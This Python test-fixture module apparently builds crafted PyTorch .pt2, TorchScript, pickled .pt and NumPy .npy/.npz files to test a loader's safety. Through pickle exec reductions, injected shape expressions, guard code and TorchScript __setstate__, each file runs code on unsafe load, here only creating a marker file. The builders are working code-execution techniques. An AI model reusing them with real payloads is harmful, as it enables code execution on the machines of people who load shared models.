"""Crafted model and data files that run code when loaded carelessly: each payload creates ``marker``.

Every builder takes (folder, marker) and returns the path of the crafted file. The payloads are real:
tests run each one once through the unsafe path to prove it creates the marker.
"""
from __future__ import annotations

import io
import json
import pickle
import zipfile
from pathlib import Path

import numpy as np


class _Touch:
    """Unpickling this calls exec(...) that creates the marker file."""

    def __init__(self, marker: Path):
        self.code = f"open({str(marker)!r}, 'w').close()"

    def __reduce__(self):
        return exec, (self.code,)


def touch_pickle(marker: Path) -> bytes:
    return pickle.dumps(_Touch(marker), protocol=2)


def touch_python(marker: Path) -> str:
    """A Python expression that creates the marker (and is None)."""
    return f"__import__('pathlib').Path({str(marker)!r}).touch()"


def _torch_save_zip(pkl: bytes, name: str = "archive") -> bytes:
    """A torch.save-format zip whose data.pkl is ``pkl`` (no storages)."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
        z.writestr(f"{name}/data.pkl", pkl)
        z.writestr(f"{name}/byteorder", "little")
        z.writestr(f"{name}/version", "3\n")
        z.writestr(f"{name}/.data/serialization_id", "0" * 40)
    return buf.getvalue()


# ---- torch.export .pt2 -----------------------------------------------------------------------------

def tiny_pt2(path: Path, dynamic: bool = False) -> Path:
    import torch

    model = torch.nn.Sequential(torch.nn.Linear(4, 3), torch.nn.ReLU()).eval()
    torch.manual_seed(0)
    shapes = {"input": {0: torch.export.Dim("batch", min=1, max=64)}} if dynamic else None
    program = torch.export.export(model, (torch.zeros(2 if dynamic else 1, 4),), dynamic_shapes=shapes)
    torch.export.save(program, str(path))
    return path


def _rewrite_zip(src: Path, dst: Path, edit) -> Path:
    """Copy the zip ``src`` to ``dst``; ``edit(members: dict[name, bytes], prefix)`` changes members."""
    with zipfile.ZipFile(src) as z:
        members = {n: z.read(n) for n in z.namelist()}
    prefix = next(iter(members)).split("/", 1)[0]
    edit(members, prefix)
    with zipfile.ZipFile(dst, "w", zipfile.ZIP_STORED) as z:
        for n, data in members.items():
            z.writestr(n, data)
    return dst


def _add_constant(members, prefix, file: str, data: bytes, tensor_meta=None):
    key = f"{prefix}/data/constants/model_constants_config.json"
    config = json.loads(members[key])
    config["config"]["evil"] = {"path_name": file, "is_param": False, "use_pickle": True,
                                "tensor_meta": tensor_meta}
    members[key] = json.dumps(config).encode()
    members[f"{prefix}/data/constants/{file}"] = data


def pt2_opaque_object(folder: Path, marker: Path) -> Path:
    """A constant stored as a plain pickle (torch: pickle.loads)."""
    base = tiny_pt2(folder / "base_opaque.pt2")
    return _rewrite_zip(base, folder / "opaque.pt2",
                        lambda m, p: _add_constant(m, p, "opaque_obj_0", touch_pickle(marker)))


def pt2_pickled_tensor(folder: Path, marker: Path) -> Path:
    """A tensor constant stored with use_pickle (torch: torch.load(weights_only=False))."""
    base = tiny_pt2(folder / "base_tensor.pt2")
    meta = {"dtype": 7, "sizes": [{"as_int": 1}], "requires_grad": False, "device": {"type": "cpu", "index": None},
            "strides": [{"as_int": 1}], "storage_offset": {"as_int": 0}, "layout": 7}
    return _rewrite_zip(base, folder / "pickled_tensor.pt2",
                        lambda m, p: _add_constant(m, p, "tensor_0", _torch_save_zip(touch_pickle(marker)), meta))


def pt2_sample_inputs(folder: Path, marker: Path) -> Path:
    """Sample inputs that torch's weights_only load refuses, so torch retries with weights_only=False."""
    base = tiny_pt2(folder / "base_inputs.pt2")

    def edit(m, p):
        m[f"{p}/data/sample_inputs/model.pt"] = _torch_save_zip(touch_pickle(marker))
    return _rewrite_zip(base, folder / "sample_inputs.pt2", edit)


def pt2_shape_expression(folder: Path, marker: Path) -> Path:
    """A symbolic shape whose expression string sympy evaluates as Python."""
    base = tiny_pt2(folder / "base_expr.pt2", dynamic=True)

    def edit(m, p):
        key = f"{p}/models/model.json"
        text = m[key].decode()
        old = "Symbol('s"
        assert old in text, "the dynamic export stores no Symbol expression"
        at = text.index(old)
        m[key] = (text[:at] + f"({touch_python(marker)} or 0)+" + text[at:]).encode()
    return _rewrite_zip(base, folder / "shape_expr.pt2", edit)


def pt2_guard_code(folder: Path, marker: Path) -> Path:
    """Guard code, which torch turns into a Python function with exec."""
    base = tiny_pt2(folder / "base_guard.pt2")

    def edit(m, p):
        key = f"{p}/models/model.json"
        program = json.loads(m[key])
        program["guards_code"] = [f"{touch_python(marker)} is None"]
        m[key] = json.dumps(program).encode()
    return _rewrite_zip(base, folder / "guard.pt2", edit)


PT2_PAYLOADS = {"opaque_object": pt2_opaque_object, "pickled_tensor": pt2_pickled_tensor,
                "sample_inputs": pt2_sample_inputs, "shape_expression": pt2_shape_expression,
                "guard_code": pt2_guard_code}


# ---- TorchScript and pickled .pt -------------------------------------------------------------------

def _scripted(marker: Path, at_load: bool):
    import torch

    class SaveAtLoad(torch.nn.Module):
        def __init__(self, p: str):
            super().__init__()
            self.p = p
            self.w = torch.nn.Parameter(torch.ones(2, 4))

        def forward(self, x):
            return torch.nn.functional.linear(x, self.w)

        @torch.jit.export
        def __getstate__(self):
            return (self.p, self.w, self.training)

        @torch.jit.export
        def __setstate__(self, s: tuple[str, torch.Tensor, bool]):
            self.p = s[0]
            self.w = s[1]
            self.training = s[2]
            torch.save(torch.zeros(1), self.p)

    class FileInForward(torch.nn.Module):
        def __init__(self, p: str):
            super().__init__()
            self.p = p
            self.w = torch.nn.Parameter(torch.ones(2, 4))

        def forward(self, x):
            f = torch.from_file(self.p, True, 4)  # shared=True creates the file
            return torch.nn.functional.linear(x, self.w) + f.sum() * 0  # used, so not optimised away

    return torch.jit.script((SaveAtLoad if at_load else FileInForward)(str(marker)))


def torchscript_save_at_load(folder: Path, marker: Path) -> Path:
    """TorchScript whose __setstate__ (run by torch.jit.load) writes a file with torch.save."""
    import torch

    path = folder / "ts_setstate.pt"
    torch.jit.save(_scripted(marker, True), str(path))
    return path


def torchscript_file_in_forward(folder: Path, marker: Path) -> Path:
    """TorchScript whose forward (run to check the shape and to export) creates a file (from_file)."""
    import torch

    path = folder / "ts_forward.pt"
    torch.jit.save(_scripted(marker, False), str(path))
    return path


def torchscript_pickled_global(folder: Path, marker: Path) -> Path:
    """A TorchScript archive whose data.pkl names Python's exec (torch.jit.load's unpickler refuses it)."""
    import torch

    base = folder / "ts_base.pt"
    torch.jit.save(torch.jit.script(torch.nn.Linear(4, 2)), str(base))

    def edit(m, p):
        m[f"{p}/data.pkl"] = touch_pickle(marker)
    return _rewrite_zip(base, folder / "ts_global.pt", edit)


def pickled_module(folder: Path, marker: Path) -> Path:
    """A whole-module torch.save whose pickle runs exec (torch.load(weights_only=False) runs it)."""
    path = folder / "pickled.pt"
    path.write_bytes(_torch_save_zip(touch_pickle(marker), "pickled"))
    return path


TORCH_PT_PAYLOADS = {"torchscript_save_at_load": torchscript_save_at_load,
                     "torchscript_file_in_forward": torchscript_file_in_forward,
                     "torchscript_pickled_global": torchscript_pickled_global,
                     "pickled_module": pickled_module}


# ---- data files ------------------------------------------------------------------------------------

def npy_object_array(folder: Path, marker: Path) -> Path:
    """An object-dtype .npy: np.load(allow_pickle=True) unpickles it."""
    path = folder / "objects.npy"
    with open(path, "wb") as f:
        np.lib.format.write_array_header_1_0(f, {"descr": "|O", "fortran_order": False, "shape": (1,)})
        f.write(touch_pickle(marker))
    return path


def npz_object_array(folder: Path, marker: Path) -> Path:
    npy = npy_object_array(folder, marker)
    path = folder / "objects.npz"
    with zipfile.ZipFile(path, "w") as z:
        z.write(npy, "x.npy")
    return path
